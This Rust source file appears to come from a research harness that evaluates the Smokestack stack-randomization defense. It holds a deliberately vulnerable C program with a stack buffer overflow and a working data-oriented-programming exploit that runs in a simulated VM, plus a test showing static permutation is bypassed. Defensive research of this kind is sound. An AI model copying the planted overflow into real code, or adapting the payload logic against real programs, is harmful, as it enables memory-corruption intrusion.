//! The paper's Listing 1: a minimal DOP-vulnerable loop. A stack buffer
//! overflow inside the loop gives the attacker per-iteration control of
//! the loop counter (the *gadget dispatcher*) and of the operand
//! variables of simple arithmetic *gadgets*, yielding attacker-chosen
//! computation entirely within the program's legitimate control flow.
//!
//! The adversary here performs the paper's §II-C methodology end to
//! end: disclose the layout of a prior run, locate its buffer in the
//! live run by scanning writable memory for a marker, then deliver a
//! read-modify-write payload per iteration that drives the gadgets:
//!
//! `target = target + 700 - 58` — a computation no benign execution
//! performs.
//!
//! Against Smokestack with a secure RNG the relative offsets change
//! every run (and guessing a P-BOX row is all the attacker can do);
//! against the insecure `pseudo` scheme the adversary reads the PRNG
//! state out of data memory and predicts the exact layout, reproducing
//! the paper's argument for disclosure-resistant randomness.

use smokestack_vm::{FnInput, Memory};

use crate::intel::{scan_stack, Knowledge, Slot};
use crate::{conclude, Attack, AttackOutcome, Build, CommitFlag};

/// Attacker-chosen computation: `1000 + 700 - 58`.
pub const EXPECTED: i64 = 1642;

/// Marker the adversary plants to re-locate its buffer.
const MARKER: u64 = 0xdeadbeefcafef00d;

/// The vulnerable program (paper Listing 1, concretized).
pub const SOURCE: &str = r#"
    long target = 1000;

    void dispatcher() {
        long ctr = 0;
        long max = 2;
        long op = 0;
        long operand = 0;
        long acc = 0;
        char buff[64];
        while (ctr < max) {
            get_input(buff, 512);
            if (op == 1) { acc = acc + operand; }
            if (op == 2) { acc = acc - operand; }
            if (op == 3) { target = acc; }
            if (op == 4) { acc = target; }
            op = 0;
            ctr = ctr + 1;
        }
    }

    int main() { dispatcher(); return 0; }
"#;

/// The overflowed buffer, which every offset is taken from.
const BUFF: Slot = ("dispatcher", "buff");

/// Variables the payload must set, in program declaration order.
const VARS: [Slot; 5] = [
    ("dispatcher", "ctr"),
    ("dispatcher", "max"),
    ("dispatcher", "op"),
    ("dispatcher", "operand"),
    ("dispatcher", "acc"),
];

/// The Listing 1 DOP attack.
pub struct Listing1Attack;

/// All five gadget variables must be reachable by a forward write from
/// the buffer that fits the 512-byte read.
fn favorable(offsets: &[i64]) -> bool {
    offsets.iter().all(|&d| d >= 8 && d + 8 <= 512)
}

/// Per-round gadget programming: (op, operand, final_round).
const SCRIPT: [(i64, i64); 4] = [(4, 0), (1, 700), (2, 58), (3, 0)];

impl Attack for Listing1Attack {
    fn name(&self) -> &str {
        "listing1-dop"
    }

    fn source(&self) -> &str {
        SOURCE
    }

    fn attempt(&self, build: &Build, run_seed: u64) -> AttackOutcome {
        // --- Reconnaissance (prior run of the same build) ---
        // Benign probe run: two empty inputs let the loop exit cleanly.
        // Smokestack builds do not disclose the replaced allocas this
        // way; the attacker falls back to guessing a P-BOX row (brute
        // force) or, under `pseudo`, predicting it from the in-memory
        // PRNG state.
        let probed = Knowledge::probed(build, run_seed ^ 0x9999, &[vec![], vec![]]);
        let mut knowledge = Knowledge::pbox(build, run_seed, 0, true).unwrap_or(probed);

        // Pre-commit decision on a layout known before the run (a
        // disclosed static one, or the guess): if it is unusable, stay
        // stealthy and retry. The adversary knows exactly which builds
        // its forward-only write primitive cannot exploit (e.g. a static
        // permutation that put the buffer above a gadget variable) and
        // never tips its hand on those.
        if knowledge.rules_out(BUFF, &VARS, favorable) {
            return AttackOutcome::Aborted;
        }

        // --- Exploit run ---
        let aborted = CommitFlag::new();
        let committed = CommitFlag::new();

        let mut vm = build.vm(run_seed);
        let adversary = FnInput(|mem: &mut Memory, req, _max| {
            if aborted.is_armed() {
                return vec![]; // stay benign for the rest of the run
            }
            // This invocation's variable offsets from buff.
            let offsets = knowledge.deltas(Some(mem), 0, BUFF, &VARS);
            if req == 0 {
                // Under pseudo, the PRNG state already reveals this
                // invocation's permutation; abort now if unusable.
                if !offsets.is_some_and(|o| favorable(&o)) {
                    aborted.arm();
                    return vec![];
                }
                // Plant the marker, behave benignly otherwise.
                return MARKER.to_le_bytes().to_vec();
            }
            let step = (req - 1) as usize;
            if step >= SCRIPT.len() {
                return vec![];
            }
            // Locate the buffer in the live run.
            let Some(buff) = scan_stack(mem, MARKER, 2 << 20) else {
                return vec![];
            };
            let Some(offsets) = offsets else {
                return vec![];
            };
            let span = offsets.iter().map(|&d| d + 8).max().unwrap_or(8) as usize;
            if span > 512 {
                return vec![];
            }
            let mut payload = match mem.read(buff, span as u64) {
                Ok(b) => b.to_vec(),
                Err(_) => return vec![],
            };
            let (op, operand) = SCRIPT[step];
            let last = step + 1 == SCRIPT.len();
            let ctr: i64 = if last { 9 } else { 0 };
            let max: i64 = 10;
            let acc_off = offsets[4];
            let acc_val = if (0..=span as i64 - 8).contains(&acc_off) {
                let at = acc_off as usize;
                payload[at..at + 8].try_into().map_or(0, i64::from_le_bytes)
            } else {
                0
            };
            committed.arm();
            for (k, &val) in [ctr, max, op, operand, acc_val].iter().enumerate() {
                let d = offsets[k];
                if d < 0 || d as usize + 8 > span {
                    continue; // unreachable slot (stale/garbled guess)
                }
                payload[d as usize..d as usize + 8].copy_from_slice(&val.to_le_bytes());
            }
            // Re-plant the marker for subsequent rounds.
            payload[..8].copy_from_slice(&MARKER.to_le_bytes());
            payload
        });
        let out = vm.run_main(adversary);
        let target_addr = vm.global_addr("target");
        let target = vm.mem().read_uint(target_addr, 8).unwrap_or(0) as i64;
        conclude(
            &out,
            &committed,
            target == EXPECTED,
            &format!("target transformed to {EXPECTED}"),
        )
        .into_outcome()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::seeded_trial;
    use smokestack_defenses::DefenseKind;

    #[test]
    fn static_permutation_bypassed_on_vulnerable_builds() {
        // A compile-time permutation is a per-build coin flip for a
        // forward-only linear primitive: builds where the buffer landed
        // below the gadget variables are fully exploitable (the
        // attacker knows which, having disclosed the static layout).
        // The librelp case study shows the full bypass with a
        // non-linear primitive. A campaign cell deploys one build, so
        // this verdict needs one trial on each of many builds.
        let mut bypassed = 0;
        let mut blocked = 0;
        for base_seed in 0..12u64 {
            let out = seeded_trial(
                &Listing1Attack,
                DefenseKind::StaticPermutation,
                base_seed,
                0,
            );
            if out.is_success() {
                bypassed += 1;
            } else {
                assert!(
                    !matches!(out, AttackOutcome::Detected(_)),
                    "static perm cannot detect: {out}"
                );
                blocked += 1;
            }
        }
        assert!(bypassed >= 1, "no vulnerable build among 12");
        assert!(blocked >= 1, "expected some builds to be lucky");
    }
}
